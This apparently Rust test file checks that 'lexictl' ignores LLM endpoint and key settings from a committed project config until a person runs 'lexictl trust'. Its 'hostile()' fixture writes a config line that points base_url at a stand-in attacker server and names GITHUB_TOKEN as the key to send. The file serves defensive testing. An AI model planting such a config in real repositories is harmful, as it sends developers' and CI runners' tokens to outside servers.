//! The trust boundary of the configuration: a committed `.lexibrary/config.yaml` alone never chooses
//! where sources and keys are sent. A fake OpenAI-compatible server on 127.0.0.1 stands for the
//! attacker's; `GITHUB_TOKEN` in the environment is what a hostile config asks to be sent. No request
//! may arrive — from `lexictl update`, from the post-commit hook, after a pull-request-like commit on
//! a clone that trusted the earlier values — until a person runs `lexictl trust`; then they do.

use crate::fake_llm::{FakeLlm, Reply};
use crate::support::{project, TestProject};
use crate::test_hooks::{hook_log, wait_for_worker};

/// What a CI runner or a developer shell holds.
const TOKEN: &str = "ghp_LEXItrustTEST0123456789abcdefABCDEF12";

const ANSWER: &str = "Description: Says hello to whoever asks.\n\n## Tags\n- greeting\n";

/// The config a hostile pull request appends: the repro of issue 30, in flow style.
fn hostile(server: &FakeLlm) -> String {
    format!(
        "llm: {{provider: openai-compatible, base_url: {}/v1, model: m, api_key_env: GITHUB_TOKEN}}\n",
        server.url()
    )
}

/// A project with its structural library committed.
fn committed() -> TestProject {
    let p = project()
        .file(
            "src/hello.py",
            "\"\"\"Greets.\"\"\"\n\ndef hello():\n    return 'hi'\n",
        )
        .init()
        .build();
    p.lexictl(["update"]).success();
    p.commit_all("library");
    p
}

/// Append `text` to the project config (as a pull request would) and commit it.
fn commit_config(p: &TestProject, text: &str) {
    let mut config = p.read(".lexibrary/config.yaml");
    config.push_str(text);
    p.write(".lexibrary/config.yaml", config);
    p.commit_all("a pull request's config");
}

/// Change a source so that an update has something to (re)document.
fn touch(p: &TestProject, n: usize) {
    p.write(
        "src/hello.py",
        format!("\"\"\"Greets.\"\"\"\n\ndef hello():\n    return 'hi {n}'\n"),
    );
}

/// The line of `key` in the project config's `llm:` section, 1-based (init's comments mention the
/// keys too).
fn line_of(p: &TestProject, key: &str) -> usize {
    let config = p.read(".lexibrary/config.yaml");
    let lines: Vec<&str> = config.lines().collect();
    let llm = lines
        .iter()
        .position(|line| line.starts_with("llm:"))
        .expect("an llm section");
    lines[llm..]
        .iter()
        .position(|line| line.contains(key))
        .expect("the key is in the llm section")
        + llm
        + 1
}

#[test]
fn a_committed_config_sends_nothing_until_this_clone_trusts_it() {
    let server = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = committed();
    commit_config(&p, &hostile(&server));
    touch(&p, 1);
    let line = line_of(&p, "api_key_env");
    let out = p.lexictl(["update"]).env("GITHUB_TOKEN", TOKEN).success();
    assert!(
        server.requests().is_empty(),
        "a request left: {:?}",
        server.requests()
    );
    out.stderr_has(&format!(
        "warning: .lexibrary/config.yaml:{line}: llm.provider (line {line}), llm.base_url (line {line}) and llm.api_key_env (line {line}) are set by the project config and not confirmed on this clone"
    ))
    .stderr_has("(this run uses llm.provider: structural)")
    .stderr_has("`lexictl trust`");
    assert!(
        !p.read(".lexibrary/src/hello.py.md").contains("Says hello"),
        "the structural Archivist wrote it"
    );
    // validate reports it as information (a fresh clone or a CI runner: nothing is wrong), status too.
    p.lexictl(["validate"]).success();
    p.lexictl(["validate", "--severity", "info"])
        .code(2)
        .stdout_has("untrusted-config")
        .stdout_has(&format!(".lexibrary/config.yaml:{line}"));
    p.lexictl(["status"]).run().stdout_has(&format!(
        "Config: .lexibrary/config.yaml:{line}: llm.provider"
    ));

    // The person looks, then trusts: now the requests go, with the key.
    p.lexictl(["trust", "--show"])
        .success()
        .stdout_has(&format!("llm.base_url: {}/v1", server.url()))
        .stdout_has("the value of $GITHUB_TOKEN is sent with every request")
        .stdout_has("Not trusted on this clone");
    assert!(
        !p.exists(".git/lexibrarian/trusted.json"),
        "--show records nothing"
    );
    p.lexictl(["trust"])
        .success()
        .stdout_has("Trusted on this clone");
    touch(&p, 2);
    p.lexictl(["update"])
        .env("GITHUB_TOKEN", TOKEN)
        .success()
        .stderr_lacks("not confirmed");
    let requests = server.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert!(p.read(".lexibrary/src/hello.py.md").contains("Says hello"));
    assert_eq!(
        requests[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
    p.lexictl(["validate", "--severity", "info"])
        .run()
        .stdout_lacks("untrusted-config");

    // Revoked: ignored again.
    p.lexictl(["trust", "--revoke"]).success();
    touch(&p, 3);
    p.lexictl(["update"])
        .env("GITHUB_TOKEN", TOKEN)
        .success()
        .stderr_has("not confirmed on this clone");
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn the_hook_never_calls_what_a_commit_alone_asked_for() {
    let server = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = committed();
    p.lexictl(["setup", "--hooks"]).success();
    // The hostile config arrives with a commit that also changes a source; the hook runs on it
    // with the token in the committer's environment.
    let mut config = p.read(".lexibrary/config.yaml");
    config.push_str(&hostile(&server));
    p.write(".lexibrary/config.yaml", config);
    touch(&p, 1);
    p.git(["add", "-A"]).success();
    p.git(["commit", "-q", "-m", "pull request"])
        .env("GITHUB_TOKEN", TOKEN)
        .success();
    wait_for_worker(&p, "");
    let log = hook_log(&p, "");
    assert!(
        server.requests().is_empty(),
        "the hook sent a request:\n{log}"
    );
    assert!(
        log.contains(".lexibrary/config.yaml:") && log.contains("`lexictl trust`"),
        "the hook log says why:\n{log}"
    );
    assert!(
        log.contains("CONTENT_ONLY      src/hello.py"),
        "the hook did update:\n{log}"
    );
}

#[test]
fn a_pull_request_that_moves_trusted_settings_is_ignored_again() {
    let ours = FakeLlm::start(|_| Reply::openai(ANSWER));
    let theirs = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = committed();
    p.lexictl(["setup", "--hooks"]).success();
    commit_config(
        &p,
        &format!(
            "llm:\n  provider: openai-compatible\n  base_url: {}/v1\n  model: m\n  api_key_env: GITHUB_TOKEN\n",
            ours.url()
        ),
    );
    wait_for_worker(&p, "");
    p.lexictl(["trust"]).success();
    touch(&p, 1);
    p.lexictl(["update"]).env("GITHUB_TOKEN", TOKEN).success();
    assert_eq!(ours.requests().len(), 1, "the trusted server is used");
    p.commit_all("library");
    wait_for_worker(&p, "");

    // A pull request points the same settings at another server, and changes a source.
    let config = p
        .read(".lexibrary/config.yaml")
        .replace(&ours.url(), &theirs.url());
    p.write(".lexibrary/config.yaml", config);
    touch(&p, 2);
    p.git(["add", "-A"]).success();
    p.git(["commit", "-q", "-m", "pull request: a faster server"])
        .env("GITHUB_TOKEN", TOKEN)
        .success();
    wait_for_worker(&p, "");
    assert!(
        theirs.requests().is_empty(),
        "hook log:\n{}",
        hook_log(&p, "")
    );
    let line = line_of(&p, "base_url");
    assert!(
        hook_log(&p, "").contains(&format!(
            ".lexibrary/config.yaml:{}: llm.base_url changed since this clone confirmed",
            line_of(&p, "provider")
        )),
        "{}",
        hook_log(&p, "")
    );
    touch(&p, 3);
    p.lexictl(["update"])
        .env("GITHUB_TOKEN", TOKEN)
        .success()
        .stderr_has("llm.base_url changed since this clone confirmed");
    assert!(theirs.requests().is_empty());
    assert_eq!(
        ours.requests().len(),
        1,
        "nor the old server: the settings are ignored whole"
    );
    // A warning for validate (exit 2): someone changed where data goes.
    p.lexictl(["validate"])
        .code(2)
        .stdout_has("trusted-config-changed");
    p.lexictl(["trust", "--show"])
        .success()
        .stdout_has(&format!("llm.base_url: {}/v1", theirs.url()))
        .stdout_has(&format!("line {line}"))
        .stdout_has("Not trusted: llm.base_url changed");
    p.lexictl(["trust"]).success();
    touch(&p, 4);
    p.lexictl(["update"]).env("GITHUB_TOKEN", TOKEN).success();
    assert_eq!(theirs.requests().len(), 1, "confirmed: now it is used");
}

#[test]
fn trust_is_per_clone_and_shared_by_its_worktrees() {
    let server = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = committed();
    commit_config(&p, &hostile(&server));
    p.lexictl(["trust"]).success();
    // A linked worktree of the same clone: the person already confirmed.
    p.git(["worktree", "add", "-q", "wt"]).success();
    p.lexictl(["trust", "--show"])
        .current_dir("wt")
        .success()
        .stdout_has("Trusted on this clone");
    // A clone is another machine's copy: the record is not in it.
    let clone = p.clone_to("clone");
    clone
        .lexictl(["trust", "--show"])
        .success()
        .stdout_has("Not trusted on this clone");
    clone
        .lexictl(["update"])
        .env("GITHUB_TOKEN", TOKEN)
        .success()
        .stderr_has("not confirmed on this clone");
    assert!(server.requests().is_empty());
}

#[test]
fn the_persons_own_tiers_need_no_trust() {
    let server = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = committed();
    // The personal config.
    p.global_config(&format!(
        "llm:\n  provider: openai-compatible\n  base_url: {}/v1\n  model: m\n  api_key_env: MY_KEY\n",
        server.url()
    ));
    touch(&p, 1);
    p.lexictl(["update"])
        .env("MY_KEY", "k1")
        .success()
        .stderr_lacks("trust");
    assert_eq!(server.requests().len(), 1);
    // The environment, over a committed config that asks for something else.
    std::fs::remove_file(p.global_config_path()).expect("remove the personal config");
    commit_config(
        &p,
        "llm: {provider: anthropic, base_url: http://127.0.0.1:9}\n",
    );
    touch(&p, 2);
    p.lexictl(["update"])
        .env("LEXI_LLM_PROVIDER", "openai-compatible")
        .env("LEXI_LLM_BASE_URL", format!("{}/v1", server.url()))
        .env("LEXI_LLM_MODEL", "m")
        .success()
        .stderr_has("not confirmed on this clone")
        .stderr_has("(this run uses llm.provider: openai-compatible)");
    assert_eq!(server.requests().len(), 2);
    p.lexictl(["update"])
        .env("LEXI_LLM_PROVIDER", "gemini")
        .code(1)
        .stderr_has("$LEXI_LLM_PROVIDER: `gemini` is not an llm.provider");
}

#[test]
fn outside_git_nothing_is_trusted_until_the_person_says_so() {
    let server = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = project()
        .no_git()
        .file("src/hello.py", "def hello():\n    return 'hi'\n")
        .init()
        .build();
    let mut config = p.read(".lexibrary/config.yaml");
    config.push_str(&hostile(&server));
    p.write(".lexibrary/config.yaml", config);
    p.lexictl(["update"])
        .env("GITHUB_TOKEN", TOKEN)
        .success()
        .stderr_has("not confirmed on this clone");
    assert!(server.requests().is_empty());
    p.lexictl(["trust"])
        .success()
        .stdout_has(".local/state/lexibrarian/trusted.json");
    touch(&p, 1);
    p.lexictl(["update"]).env("GITHUB_TOKEN", TOKEN).success();
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn trust_reports_in_json_and_never_shows_a_pasted_key() {
    let p = project().file("src/a.py", "x = 1\n").init().build();
    p.lexictl(["trust", "--format", "json"])
        .success()
        .stdout_has("\"action\": \"nothing\"");
    commit_config(
        &p,
        "llm:\n  provider: anthropic\n  api_key_env: sk-ant-api03-PASTEDKEY\n",
    );
    let json = p.lexictl(["trust", "--show", "--format", "json"]).json();
    assert_eq!(json["action"], "shown");
    assert_eq!(json["trusted"], false);
    assert_eq!(json["settings"][0]["key"], "llm.provider");
    assert!(
        !json.to_string().contains("PASTEDKEY"),
        "a key in the wrong place is never shown"
    );
}

#[test]
fn a_committed_url_never_redirects_the_persons_own_provider() {
    let ours = FakeLlm::start(|_| Reply::openai(ANSWER));
    let theirs = FakeLlm::start(|_| Reply::openai(ANSWER));
    let p = committed();
    p.global_config(&format!(
        "llm:\n  provider: openai-compatible\n  base_url: {}/v1\n  model: m\n  api_key_env: MY_KEY\n",
        ours.url()
    ));
    // Only the URL and the key variable, in quoted keys: still held.
    commit_config(
        &p,
        &format!(
            "\"llm\":\n  \"base_url\": {}/v1\n  \"api_key_env\": GITHUB_TOKEN\n",
            theirs.url()
        ),
    );
    touch(&p, 1);
    p.lexictl(["update"])
        .env("MY_KEY", "mine")
        .env("GITHUB_TOKEN", TOKEN)
        .success()
        .stderr_has("llm.base_url (line ")
        .stderr_has("(this run uses llm.provider: openai-compatible)");
    assert!(theirs.requests().is_empty());
    let requests = ours.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].header("authorization"), Some("Bearer mine"));
}
